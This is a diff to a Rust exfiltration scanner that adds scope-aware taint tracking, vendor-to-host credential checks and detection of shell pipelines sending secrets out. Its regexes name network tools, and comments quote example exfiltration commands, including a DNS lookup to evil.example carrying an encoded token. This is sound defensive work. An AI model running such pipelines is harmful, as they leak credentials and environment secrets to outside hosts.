@@ -6,7 +6,7 @@
 //! that is recorded at low severity. Sending the whole environment, a credential file, or a key in
 //! a body or to an undeclared or environment-chosen destination is exfiltration.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 use std::sync::LazyLock;
 
 use regex::Regex;
@@ -48,7 +48,7 @@ static SINK: LazyLock<Regex> = LazyLock::new(|| {
 static SHELL_SINK: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r#"(?-u:\b)(curl|wget|nc)\s+[^\n]*"#).unwrap());
 static AUTH_CONTEXT: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?i)(headers|authorization|bearer|x-api-key|api-key|auth\s*=|apikey|token\s*=)"#)
+    Regex::new(r#"(?i)(headers|authorization|bearer|x-api-key|api-key|auth\s*=|apikey|token\s*=|params\s*=|query\s*=|searchParams)"#)
         .unwrap()
 });
 static URL_HOST: LazyLock<Regex> =
@@ -121,7 +121,93 @@ struct Tainted {
     cred_calls: BTreeSet<String>,
 }
 
+/// Is `var` passed in an auth header or the query string of the call whose arguments are
+/// `args`? (`params=params` counts: the keyword names it.)
+fn sent_as_credential(args: &str, var: &str) -> bool {
+    args.find(var).is_some_and(|at| {
+        let mut upto = (at + var.len() + 1).min(args.len());
+        while !args.is_char_boundary(upto) {
+            upto -= 1;
+        }
+        AUTH_CONTEXT.is_match(&args[..upto])
+    })
+}
+
+/// `name` as assigned in the function `scope` (0: module level, visible everywhere).
+fn qualify(name: &str, scope: usize) -> String {
+    if scope == 0 {
+        name.to_owned()
+    } else {
+        format!("{name}@{scope}")
+    }
+}
+
+/// The function each line belongs to, with the functions around it (innermost last; empty at
+/// module level), by indentation: a `def` or `function` opens a scope that lasts while lines are
+/// indented deeper than it. Variables are local to their function, so a `url` read from the
+/// environment in one function does not taint a `url` built from a literal in another.
+fn scopes(lines: &[&str]) -> (Vec<Vec<usize>>, BTreeMap<usize, BTreeSet<String>>) {
+    let mut out = Vec::with_capacity(lines.len());
+    let mut params: BTreeMap<usize, BTreeSet<String>> = BTreeMap::new();
+    let mut stack: Vec<(usize, usize)> = Vec::new();
+    let mut next = 1;
+    for line in lines {
+        let indent = line.len() - line.trim_start().len();
+        if !line.trim().is_empty() {
+            while stack.last().is_some_and(|(open, _)| indent <= *open) {
+                stack.pop();
+            }
+        }
+        if let Some(def) = DEF.find(line) {
+            // The parameter names, which hide module-level variables of the same name.
+            let list = line[def.end()..].split(')').next().unwrap_or("");
+            let names = list
+                .split(',')
+                .filter_map(|p| {
+                    let name = p.trim().trim_start_matches('*');
+                    let name = name.split([':', '=']).next().unwrap_or("").trim();
+                    (!name.is_empty()).then(|| name.to_owned())
+                })
+                .collect();
+            params.insert(next, names);
+            stack.push((indent, next));
+            next += 1;
+        }
+        out.push(stack.iter().map(|(_, id)| *id).collect());
+    }
+    (out, params)
+}
+
 impl Tainted {
+    /// The names visible in a function: module-level ones and those of the enclosing functions.
+    fn scoped(&self, chain: &[usize], params: &BTreeMap<usize, BTreeSet<String>>) -> Tainted {
+        let shadowed = |name: &str| {
+            chain
+                .iter()
+                .any(|scope| params.get(scope).is_some_and(|p| p.contains(name)))
+        };
+        let visible = |set: &BTreeSet<String>| -> BTreeSet<String> {
+            set.iter()
+                .filter_map(|entry| match entry.rsplit_once('@') {
+                    None => (!shadowed(entry)).then(|| entry.clone()),
+                    Some((name, scope)) => scope
+                        .parse::<usize>()
+                        .ok()
+                        .filter(|s| chain.contains(s))
+                        .map(|_| name.to_owned()),
+                })
+                .collect()
+        };
+        Tainted {
+            env: visible(&self.env),
+            harvest: visible(&self.harvest),
+            cred: visible(&self.cred),
+            env_calls: self.env_calls.clone(),
+            harvest_calls: self.harvest_calls.clone(),
+            cred_calls: self.cred_calls.clone(),
+        }
+    }
+
     fn size(&self) -> usize {
         self.env.len()
             + self.harvest.len()
@@ -175,22 +261,26 @@ pub fn scan(
     out: &mut Vec<Finding>,
 ) {
     let text = map.text;
-    if !SINK.is_match(text) && !SHELL_SINK.is_match(text) {
+    if !SINK.is_match(text) && !SHELL_SINK.is_match(text) && !SHELL_NET.is_match(text) {
         return;
     }
     let mut t = Tainted::default();
     let lines: Vec<&str> = text.lines().collect();
+    let (chains, params) = scopes(&lines);
     // Propagate through assignments until nothing changes (bounded: taint only grows).
     for _ in 0..4 {
         let before = t.size();
         let mut function: Option<String> = None;
-        for line in &lines {
+        for (index, line) in lines.iter().enumerate() {
+            let chain = &chains[index];
+            let scope = chain.last().copied().unwrap_or(0);
+            let view = t.scoped(chain, &params);
             if let Some(c) = DEF.captures(line) {
                 function = Some(c[1].to_owned());
             }
             // A function returning a tainted value taints its calls (`secrets = harvest()`).
             if let (Some(name), Some(c)) = (&function, RETURN.captures(line)) {
-                let kind = t.kind_of(&c[1]);
+                let kind = view.kind_of(&c[1]);
                 if let Some(kind) = kind {
                     t.calls(kind).insert(format!("{name}("));
                 }
@@ -201,32 +291,43 @@ pub fn scan(
                 let kind = if iter.contains("os.environ") || iter.contains("process.env") {
                     Some(Kind::Harvest)
                 } else {
-                    t.kind_of(iter)
+                    view.kind_of(iter)
                 };
                 if let Some(kind) = kind {
-                    let vars = [
-                        Some(c[1].to_owned()),
-                        c.get(2).map(|m| m.as_str().to_owned()),
-                    ];
-                    t.vars(kind).extend(vars.into_iter().flatten());
+                    let vars = [Some(&c[1]), c.get(2).map(|m| m.as_str())];
+                    t.vars(kind)
+                        .extend(vars.into_iter().flatten().map(|v| qualify(v, scope)));
                 }
             }
-            // `found[key] = value`, `items.append(value)`: the container becomes tainted.
+            // `found[key] = value`, `items.append(value)`: the container becomes tainted. An
+            // attribute of `self` is its own name (`self.email`), not the whole object.
             if let Some(c) = MUTATE.captures(line) {
                 let rhs = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
-                if let Some(kind) = t.kind_of(rhs) {
-                    t.vars(kind).insert(c[1].to_owned());
+                if let Some(kind) = view.kind_of(rhs) {
+                    let container = &c[1];
+                    let name = if matches!(container, "self" | "this" | "cls") {
+                        line.trim_start()
+                            .split(|ch: char| {
+                                !(ch.is_alphanumeric() || ch == '_' || ch == '.' || ch == '$')
+                            })
+                            .next()
+                            .unwrap_or(container)
+                            .to_owned()
+                    } else {
+                        container.to_owned()
+                    };
+                    t.vars(kind).insert(qualify(&name, scope));
                 }
             }
             if let Some(c) = WITH_OPEN.captures(line)
-                && (CRED_SOURCE.is_match(&c[1]) || mentions(&c[1], &t.cred).is_some())
+                && (CRED_SOURCE.is_match(&c[1]) || mentions(&c[1], &view.cred).is_some())
             {
-                t.cred.insert(c[2].to_owned());
+                t.cred.insert(qualify(&c[2], scope));
             }
             let Some(c) = ASSIGN.captures(line) else {
                 continue;
             };
-            let (name, rhs) = (c[1].to_owned(), &c[2]);
+            let (name, rhs) = (qualify(&c[1], scope), &c[2]);
             let reads_credentials = CRED_SOURCE.is_match(rhs)
                 && (rhs.contains("open")
                     || rhs.contains("read")
@@ -234,8 +335,13 @@ pub fn scan(
                     || rhs.contains("join"));
             if reads_credentials {
                 t.cred.insert(name);
-            } else if let Some(kind) = t.kind_of(rhs) {
-                t.vars(kind).insert(name);
+            } else if let Some(kind) = view.kind_of(rhs) {
+                // What a server answers is not the environment, even when the environment
+                // chose the server: `notebook = requests.post(f"{BASE_URL}/…").json()`.
+                let response_only = matches!(kind, Kind::Env) && SINK.is_match(rhs);
+                if !response_only {
+                    t.vars(kind).insert(name);
+                }
             }
         }
         if t.size() == before {
@@ -279,7 +385,13 @@ pub fn scan(
             blocks: id == "TAINT-001" && confidence == Confidence::High,
         });
     };
+    let all = t;
     for m in SINK.find_iter(text) {
+        let line_index = map.line(m.start()).saturating_sub(1);
+        let t = all.scoped(
+            chains.get(line_index).map_or(&[][..], Vec::as_slice),
+            &params,
+        );
         let args = call_args(text, m.end() - 1);
         let call = &text[m.start()..m.end() - 1 + args.len()];
         if ENV_HARVEST.is_match(args) || mentions(args, &t.harvest).is_some() {
@@ -315,29 +427,40 @@ pub fn scan(
             let first_arg = args.split(',').next().unwrap_or("");
             let url_from_env =
                 ENV_SOURCE.is_match(first_arg) || mentions(first_arg, &t.env).is_some();
-            let in_auth = args
-                .find(var.as_str())
-                .is_some_and(|at| AUTH_CONTEXT.is_match(&args[..at]));
+            let in_auth = sent_as_credential(args, &var);
+            // What else the call carries besides its destination.
+            let rest = &args[first_arg.len().min(args.len())..];
+            let rest_var = ENV_SOURCE
+                .find(rest)
+                .map(|m| m.as_str().to_owned())
+                .or_else(|| mentions(rest, &t.env));
+            let rest_in_auth = rest_var
+                .as_ref()
+                .is_some_and(|v| sent_as_credential(rest, v));
             if url_from_env {
-                report(
-                    m.start(),
-                    Severity::High,
-                    "TAINT-004",
-                    format!(
-                        "network destination is chosen by the environment (`{var}`), so data can be redirected anywhere"
+                // A configurable base URL is configuration; what it carries decides the weight.
+                let (severity, message) = match &rest_var {
+                    None => (
+                        Severity::Low,
+                        format!("network destination is configured by the environment (`{var}`)"),
                     ),
-                    call,
-                    out,
-                );
-            } else if in_auth && to_declared {
-                report(
-                    m.start(),
-                    Severity::Low,
-                    "TAINT-005",
-                    format!("`{var}` is sent as a credential to a declared host"),
-                    call,
-                    out,
-                );
+                    Some(v) if rest_in_auth => (
+                        Severity::Medium,
+                        format!(
+                            "credential `{v}` is sent to a destination the environment chooses (`{var}`)"
+                        ),
+                    ),
+                    Some(v) => (
+                        Severity::High,
+                        format!(
+                            "environment value `{v}` is sent to a destination the environment chooses, so data can be redirected anywhere"
+                        ),
+                    ),
+                };
+                report(m.start(), severity, "TAINT-004", message, call, out);
+            } else if in_auth {
+                let (severity, id, message) = credential_use(&var, &hosts, to_declared);
+                report(m.start(), severity, id, message, call, out);
             } else {
                 report(
                     m.start(),
@@ -357,6 +480,11 @@ pub fn scan(
             }
         }
     }
+    shell_flows(
+        text,
+        declared_hosts,
+        &mut |offset, severity, id, message, call| report(offset, severity, id, message, call, out),
+    );
     for m in SHELL_SINK.find_iter(text) {
         let args = m.as_str();
         if ENV_HARVEST.is_match(args) {
@@ -384,6 +512,235 @@ pub fn scan(
                 out,
             );
         }
+    }
+}
+
+/// A shell variable that by its name holds a secret (`$GITHUB_TOKEN`, `${DB_PASSWORD}`,
+/// `$(AWS_SECRET_ACCESS_KEY)`).
+static SHELL_SECRET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\$[{(]?([A-Za-z_][A-Za-z0-9_]*(?i:key|token|secret|passw(?:or)?d|pass|credentials?|cookie|session|auth)[A-Za-z0-9_]*)[})]?"#).unwrap()
+});
+/// The whole environment, or a dump of every variable, as a shell command.
+static SHELL_HARVEST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(^|[|;&(`]\s*|\$\(\s*)(env|printenv|set|export\s+-p|declare\s+-x|Get-ChildItem\s+env:|gci\s+env:|dir\s+env:)(\s*($|[|;&)`>])|\s+\|)"#).unwrap()
+});
+/// A network command in a shell pipeline: curl, wget, netcat, PowerShell's web cmdlets, httpie,
+/// and DNS lookups (a name can carry data).
+static SHELL_NET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(^|\s|[|;&(`]|xargs\s+)(curl|wget|nc|ncat|netcat|socat|http|https|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|dig|nslookup)\s|(^|[\s|;&(`])(http\s+(GET|POST|PUT|PATCH)|host\s+[^=\s])"#).unwrap()
+});
+/// A network command that sends what it reads on stdin (`-d @-`, `-T -`, netcat, `xargs curl`).
+static READS_STDIN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(@-|\s-T\s*-(\s|$)|--upload-file\s+-(\s|$)|^\s*(nc|ncat|netcat|socat)\s|^\s*xargs\s|--body-file\s*=?\s*-|\s-InFile\s+-)"#).unwrap()
+});
+static SHELL_ENCODE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)^\s*(base64|xxd|od|gzip|bzip2|xz|openssl\s+(enc|base64)|tar\s|zip\s)"#)
+        .unwrap()
+});
+static SHELL_DATA_FLAG: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(\s-d\s|\s-d["'$]|--data(-\w+)?[\s=]|\s-F\s|--form[\s=]|--post-data|--body-data|-Body\s|\s-T\s|--upload-file|\?[^\s"']*=)"#).unwrap()
+});
+
+static DNS_LOOKUP: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)^\s*(dig|nslookup|host)\s").unwrap());
+/// Inside an authentication header argument: `-H "Authorization: Bearer …`, `--header 'X-Api-Key: …`.
+static IN_HEADER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(-H|--header)\s*["']?(authorization|x-[\w-]*(key|token)|api-?key|[\w-]*token)\s*:[^"']*$"#).unwrap()
+});
+static OPEN_SUBSTITUTION: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\$\([^)]*$").unwrap());
+
+/// Logical lines of shell text (backslash continuations joined), with their start offsets.
+fn shell_lines(text: &str) -> Vec<(usize, String)> {
+    let mut out: Vec<(usize, String)> = Vec::new();
+    let mut offset = 0;
+    let mut open: Option<(usize, String)> = None;
+    for line in text.split_inclusive('\n') {
+        let body = line.trim_end_matches(['\n', '\r']);
+        let (start, mut joined) = open.take().unwrap_or((offset, String::new()));
+        if let Some(stripped) = body.strip_suffix('\\') {
+            joined.push_str(stripped);
+            joined.push(' ');
+            open = Some((start, joined));
+        } else {
+            joined.push_str(body);
+            out.push((start, joined));
+        }
+        offset += line.len();
+    }
+    if let Some(last) = open {
+        out.push(last);
+    }
+    out
+}
+
+/// Pipelines and commands that send secrets, the environment or credential files over the
+/// network: `env | curl -d @-`, `curl --data "t=$API_TOKEN" https://…`, `cat ~/.aws/credentials |
+/// base64 | nc …`, `dig $(echo $TOKEN | base64).evil.example` (data in a DNS name).
+fn shell_flows(
+    text: &str,
+    declared_hosts: &BTreeSet<String>,
+    report: &mut dyn FnMut(usize, Severity, &str, String, &str),
+) {
+    for (offset, line) in shell_lines(text) {
+        let trimmed = line.trim_start();
+        if trimmed.starts_with('#') || trimmed.starts_with("//") || !SHELL_NET.is_match(&line) {
+            continue;
+        }
+        let segments: Vec<&str> = line.split('|').filter(|s| !s.is_empty()).collect();
+        let Some(sink_at) = segments.iter().position(|s| SHELL_NET.is_match(s)) else {
+            continue;
+        };
+        let sink = segments[sink_at];
+        let upstream = &segments[..sink_at];
+        let piped_in = sink_at > 0 && READS_STDIN.is_match(sink);
+        let upstream_text = upstream.join("|");
+        let hosts: Vec<String> = URL_HOST
+            .captures_iter(sink)
+            .map(|c| c[1].to_ascii_lowercase())
+            .collect();
+        let dns = DNS_LOOKUP.is_match(sink);
+        let harvest =
+            SHELL_HARVEST.is_match(sink) || (piped_in && SHELL_HARVEST.is_match(&upstream_text));
+        if harvest {
+            report(
+                offset,
+                Severity::Critical,
+                "TAINT-001",
+                "the whole environment is sent over the network".into(),
+                &line,
+            );
+            continue;
+        }
+        let cred_in_sink = CRED_SOURCE.is_match(sink)
+            && (SHELL_DATA_FLAG.is_match(sink) || sink.contains("$(") || sink.contains('`'));
+        if cred_in_sink || (piped_in && CRED_SOURCE.is_match(&upstream_text)) {
+            report(
+                offset,
+                Severity::Critical,
+                "TAINT-002",
+                "credential file contents are sent over the network".into(),
+                &line,
+            );
+            continue;
+        }
+        let secret_upstream = piped_in
+            .then(|| SHELL_SECRET.captures(&upstream_text))
+            .flatten();
+        if let Some(c) = secret_upstream {
+            report(
+                offset,
+                Severity::High,
+                "TAINT-003",
+                format!("secret `{}` is piped into a network command", &c[1]),
+                &line,
+            );
+            continue;
+        }
+        if let Some(c) = SHELL_SECRET.captures(sink) {
+            let var = c[1].to_owned();
+            let at = c.get(0).map_or(0, |m| m.start());
+            let before = &sink[..at];
+            let in_header = IN_HEADER.is_match(before);
+            let in_name = dns || (OPEN_SUBSTITUTION.is_match(before) && !in_header);
+            let to_declared =
+                !hosts.is_empty() && hosts.iter().all(|h| host_declared(h, declared_hosts));
+            if in_header {
+                let (severity, id, message) = credential_use(&var, &hosts, to_declared);
+                report(offset, severity, id, message, &line);
+            } else if SHELL_DATA_FLAG.is_match(sink) || in_name || sink.contains("$(") {
+                report(
+                    offset,
+                    Severity::High,
+                    "TAINT-003",
+                    format!(
+                        "secret `{var}` is sent in a network request{}",
+                        if hosts.is_empty() {
+                            String::new()
+                        } else {
+                            format!(" to {}", hosts.join(", "))
+                        }
+                    ),
+                    &line,
+                );
+            }
+            continue;
+        }
+        if piped_in && upstream.iter().any(|s| SHELL_ENCODE.is_match(s)) && !dns {
+            report(
+                offset,
+                Severity::High,
+                "TAINT-006",
+                "data is encoded and then uploaded from a pipe, a way to smuggle it out".into(),
+                &line,
+            );
+        }
+    }
+}
+
+/// Vendor names in credential variables, and the hosts where those credentials belong.
+const VENDOR_HOSTS: &[(&str, &[&str])] = &[
+    ("OPENAI", &["openai"]),
+    ("ANTHROPIC", &["anthropic"]),
+    ("AWS", &["amazonaws", "aws"]),
+    ("GITHUB", &["github"]),
+    ("GH_", &["github"]),
+    ("GITLAB", &["gitlab"]),
+    ("STRIPE", &["stripe"]),
+    ("SLACK", &["slack"]),
+    ("HF_", &["huggingface", "hf.co"]),
+    ("HUGGINGFACE", &["huggingface", "hf.co"]),
+    ("GOOGLE", &["google"]),
+    ("GEMINI", &["google"]),
+    ("AZURE", &["azure", "microsoft"]),
+    ("NPM", &["npmjs"]),
+    ("PYPI", &["pypi"]),
+    ("DOCKER", &["docker"]),
+    ("TELEGRAM", &["telegram"]),
+    ("DISCORD", &["discord"]),
+];
+
+/// How a credential sent as an authentication header weighs: to a declared host it is API use
+/// (low); to an undeclared host it is a missing declaration (medium), unless the credential
+/// names another vendor than the host, which is how a stolen key is replayed elsewhere (high).
+fn credential_use(
+    var: &str,
+    hosts: &[String],
+    to_declared: bool,
+) -> (Severity, &'static str, String) {
+    let upper = var.to_ascii_uppercase();
+    let foreign = hosts.iter().any(|host| {
+        VENDOR_HOSTS.iter().any(|(vendor, homes)| {
+            upper.contains(vendor) && !homes.iter().any(|home| host.contains(home))
+        })
+    });
+    if foreign {
+        (
+            Severity::High,
+            "TAINT-003",
+            format!(
+                "`{var}` is sent to {}, which is not where that credential belongs",
+                hosts.join(", ")
+            ),
+        )
+    } else if to_declared {
+        (
+            Severity::Low,
+            "TAINT-005",
+            format!("`{var}` is sent as a credential to a declared host"),
+        )
+    } else {
+        (
+            Severity::Medium,
+            "TAINT-005",
+            format!(
+                "`{var}` is sent as a credential to {}, a host SKILL.md does not declare",
+                if hosts.is_empty() {
+                    "a host chosen at run time".to_owned()
+                } else {
+                    hosts.join(", ")
+                }
+            ),
+        )
     }
 }
 
